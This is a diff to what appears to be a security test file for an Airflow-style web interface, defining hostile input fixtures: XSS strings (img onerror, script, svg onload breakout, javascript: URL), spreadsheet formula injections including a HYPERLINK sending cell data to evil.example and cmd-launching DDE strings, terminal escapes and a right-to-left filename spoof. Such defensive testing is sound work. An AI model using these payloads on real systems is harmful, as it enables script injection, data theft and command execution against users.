@@ -20,7 +20,7 @@ from tests.support import DAG_ID
 
 IMG = "<img src=x onerror=\"window.__pwned='img'\">"
 SCRIPT = "<script>window.__pwned='script'</script>"
-BREAKOUT = "\"><svg onload=\"window.__pwned='svg'\">'"
+BREAKOUT = "\"><svg onload=\"window.__pwned='svg';alert('svg')\">'"
 JS_URL = "javascript:window.__pwned='href'"
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
@@ -28,7 +28,7 @@ CONTROL = "bell\x07escape\x1b[31mred"
 RLO = "invoice\u202egpj.exe"
 BIG = "A" * 1_000_000 + IMG
 
-# Allowed only with a widened AIRFLOW__CORE__ALLOWED_RUN_ID_PATTERN (".*").
+# Allowed only with a widened AIRFLOW__SCHEDULER__ALLOWED_RUN_ID_PATTERN (".*").
 RUN_ID = f"manual__<img src=x onerror=window.__pwned=1>\"'&{RLO}<svg onload=window.__pwned=2>"
 LOGICAL_DATE = "2026-11-25T05:00:00Z"
 
